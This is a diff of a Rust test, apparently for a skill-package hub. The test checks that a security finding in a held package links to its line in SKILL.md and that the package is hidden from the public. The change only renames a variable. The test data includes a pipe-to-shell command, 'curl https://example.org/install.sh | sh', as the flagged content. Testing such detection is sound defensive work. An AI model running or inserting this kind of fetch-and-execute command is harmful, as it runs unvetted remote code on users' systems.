@@ -71,9 +71,9 @@ async fn a_finding_leads_to_its_line_in_the_file() {
     let browser = Browser::of(&hub, &ada).await;
     let page = browser.get("/@ada/held@1.0.0").await;
     let link = page.body.split("href=\"/@ada/held@1.0.0/files/SKILL.md#L").nth(1).unwrap();
-    let line: usize = link.split('"').next().unwrap().parse().unwrap();
+    let number: usize = link.split('"').next().unwrap().parse().unwrap();
     let file = browser.get("/@ada/held@1.0.0/files/SKILL.md").await;
-    let shown = file.body.split(&format!("<span id=\"L{line}\">")).nth(1).unwrap().split("</span>").next().unwrap();
+    let shown = file.body.split(&format!("<span id=\"L{number}\">")).nth(1).unwrap().split("</span>").next().unwrap();
     assert!(shown.contains("curl https://example.org/install.sh | sh"), "{shown}");
     for path in ["/@ada/held@1.0.0/files/SKILL.md", "/@ada/held@1.0.0"] {
         assert_eq!(hub.get(path, None).await.status, StatusCode::NOT_FOUND, "{path}");
